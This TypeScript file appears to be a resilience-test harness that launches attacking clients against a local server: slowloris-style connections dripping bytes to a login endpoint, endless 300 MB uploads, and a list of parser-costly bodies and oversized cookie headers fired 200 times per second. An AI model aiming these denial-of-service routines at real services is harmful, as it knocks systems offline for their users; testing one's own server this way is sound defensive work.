// The attacking clients, run as a separate process until it is killed: slow requests, uploads without end, and bodies that are costly to parse; each from an address of its own.
import { randomBytes } from 'node:crypto'
import { type ClientRequest, request } from 'node:http'
import { connect } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { PREFIX } from '@attestry/contract/endpoint'

interface Task {
  readonly url: string
  readonly token: string
  readonly slowConnections: number
}

const ADDRESS = { slow: '127.0.0.2', huge: '127.0.0.3', malicious: '127.0.0.4' }
const UPLOAD_BYTES = 300_000_000
const BODIES_PER_SECOND = 200
const BYTE_INTERVAL_MS = 5_000

const { url, token, slowConnections } = JSON.parse(process.argv[2] ?? '{}') as Task
const { hostname, port } = new URL(url)

/** Sends a head, then one byte every few seconds; is connected again as often as the server ends it. */
async function slow(): Promise<never> {
  for (;;) {
    const socket = connect({ host: hostname, port: Number(port), localAddress: ADDRESS.slow })
    const ended = new Promise<void>((resolve) => socket.once('close', () => resolve()))
    socket.on('error', () => {})
    socket.resume()
    socket.write(
      `POST ${PREFIX}/login HTTP/1.1\r\nhost: ${hostname}\r\ncontent-type: application/json\r\ncontent-length: 5000\r\n\r\n{`,
    )
    const drip = setInterval(() => socket.write(' '), BYTE_INTERVAL_MS)
    await ended
    clearInterval(drip)
    await sleep(200)
  }
}

/** Uploads without a pause; each upload is given up before its end, so that the disk does not fill. */
async function huge(): Promise<never> {
  const piece = randomBytes(256 * 1024)
  for (;;) {
    const outgoing = request(`${url}${PREFIX}/attestaion/file/upload`, {
      method: 'POST',
      localAddress: ADDRESS.huge,
      headers: {
        'content-type': 'multipart/form-data; boundary=x',
        'content-length': String(2 * UPLOAD_BYTES),
        'x-auth-token': token,
      },
    })
    const ended = endOf(outgoing)
    outgoing.write('--x\r\ncontent-disposition: form-data; name="file"; filename="huge.bin"\r\n\r\n')
    for (let sent = 0; sent < UPLOAD_BYTES && !outgoing.destroyed; sent += piece.length)
      if (!outgoing.write(piece)) await Promise.race([new Promise((resolve) => outgoing.once('drain', resolve)), ended])
    outgoing.destroy()
    await ended
  }
}

const worstBodies: readonly (readonly [type: string, body: string])[] = [
  ['application/x-www-form-urlencoded', 'a&'.repeat(50_000)],
  ['application/x-www-form-urlencoded', 'a[0][0][0][0]=1&'.repeat(6_000)],
  ['application/json', '['.repeat(50_000)],
  ['application/json', `{${Array.from({ length: 8_000 }, (_, at) => `"k${at}":1`).join(',')}}`],
  ['application/json', `{"phone":"${'\\u0041'.repeat(15_000)}"}`],
  ['multipart/form-data; boundary=x', '--x\r\ncontent-disposition: form-data; name="a"\r\n\r\n\r\n'.repeat(1_500)],
]

async function malicious(): Promise<never> {
  for (let at = 0; ; at += 1) {
    const [type, body] = worstBodies[at % worstBodies.length] ?? ['', '']
    const cookie = 'a=b; '.repeat(2_000)
    const headers = { 'content-type': type, 'content-length': String(body.length), cookie }
    const outgoing = request(`${url}${PREFIX}/login`, { method: 'POST', localAddress: ADDRESS.malicious, headers })
    void endOf(outgoing)
    outgoing.end(body)
    await sleep(1000 / BODIES_PER_SECOND)
  }
}

function endOf(outgoing: ClientRequest): Promise<void> {
  outgoing.on('error', () => {})
  outgoing.on('response', (incoming) => incoming.on('error', () => {}).resume())
  return new Promise((resolve) => outgoing.once('close', () => resolve()))
}

for (let at = 0; at < slowConnections; at += 1) void slow()
void huge()
void malicious()
await sleep(1000)
console.log('attacking')
